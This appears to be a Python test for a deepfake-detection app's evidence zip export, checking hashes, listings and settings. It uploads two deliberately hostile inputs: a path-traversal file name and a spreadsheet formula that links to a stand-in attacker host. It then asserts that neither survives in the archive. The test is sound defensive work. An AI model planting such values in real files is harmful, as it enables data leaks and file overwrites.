"""The zip: all of it by its hash, and nothing that does harm where it is unpacked."""

from __future__ import annotations

import hashlib
import io
import json
import re
import zipfile

from tests.web.made_media import HTML
from tests.web.made_server import Running, wait_until


def test_the_evidence_holds_together(served: Running, photo: bytes) -> None:
    browser = served.browser()
    formula = '=HYPERLINK("http://evil/"&A1).html'
    files = [("../a b.png", photo), (formula, HTML)]
    for file in browser.send("/api/files", files).json()["files"]:
        browser.wait(file["id"])
    answer = browser.get("/api/evidence")
    assert answer.headers["content-type"] == "application/zip"
    assert answer.headers["content-disposition"] == 'attachment; filename="deepfake-evidence.zip"'
    with zipfile.ZipFile(io.BytesIO(answer.body)) as archive:
        names = archive.namelist()
        sums = archive.read("SHA256SUMS").decode().splitlines()
        for line in sums:
            digest, name = line.split("  ")
            assert hashlib.sha256(archive.read(name)).hexdigest() == digest
        assert len(sums) == len(names) - 1
        listed = archive.read("files.csv").decode()
        settings = json.loads(archive.read("settings.json"))
        results = json.loads(archive.read("results.json"))
        report = archive.read("report.html").decode()
    assert hashlib.sha256(photo).hexdigest() in listed
    assert not re.search(r'^"?=', listed, re.MULTILINE), "a spreadsheet would compute it"
    (model,) = settings["models"].values()
    assert model["origin"]["checkpoint_sha256"].startswith(next(iter(settings["models"])))
    assert [result["status"] for result in results] == ["ok", "unreadable"]
    settings_of_files = [result["scored_with"] for result in results]
    assert settings_of_files[0] == settings_of_files[1]
    assert model["scored_with"] == settings_of_files[:1]
    assert {"aggregation", "frames", "most pixels", "scored_by"} < set(settings_of_files[0])
    assert "a b.png" in report
    assert "<script" not in report
    assert any(name.startswith("001-a_b.png/crops/") for name in names)
    assert all(".." not in name and not name.startswith("/") for name in names)
    wait_until(lambda: not list(served.store.incoming.iterdir()))  # removed when it was sent
    browser.ask("DELETE", "/api/files")
    assert browser.get("/api/evidence").status == 409
